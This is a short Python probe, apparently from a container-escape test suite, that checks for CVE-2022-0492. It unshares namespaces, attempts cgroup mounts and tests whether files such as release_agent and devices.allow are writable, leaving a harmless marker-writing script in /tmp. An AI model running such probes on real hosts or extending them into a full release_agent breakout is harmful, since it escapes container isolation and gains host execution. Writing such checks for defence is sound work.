"""Looks for a cgroup that it may mount or write: whoever sets its release agent runs a program on the host."""

SOURCE = "CVE-2022-0492"
SUCCESS = "a file that the agent leaves, or a cgroup that can be written"

# %%
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
open("/tmp/agent", "w").write("#!/bin/sh\ntouch /tmp/@TOKEN@-@NAME@\n")
os.chmod("/tmp/agent", 0o755)
os.makedirs("/tmp/cgroup", exist_ok=True)
print(open("/proc/self/cgroup").read(), open("/proc/self/mountinfo").read().count("cgroup"), "mounted")
print("unshare", libc.unshare(0x12020000), os.strerror(ctypes.get_errno()))
for kind, options in ((b"cgroup", b"rdma"), (b"cgroup", b"none,name=x"), (b"cgroup", b"memory"), (b"cgroup2", None)):
    mounted = libc.mount(b"cgroup", b"/tmp/cgroup", kind, 0, options) == 0
    print(kind, options, "SUCCEEDED" if mounted else os.strerror(ctypes.get_errno()))
for top in ("/tmp/cgroup", "/sys/fs/cgroup"):
    if not os.path.isdir(top):
        print(top, "is not there")
    for folder, folders, names in os.walk(top):
        for name in ("release_agent", "notify_on_release", "cgroup.procs", "memory.max", "devices.allow"):
            try:
                os.close(os.open(os.path.join(folder, name), os.O_WRONLY))
                print("SUCCEEDED: can write", folder, name)
            except OSError as error:
                reason = error
        folders[:] = folders[:10]
print("attempted")
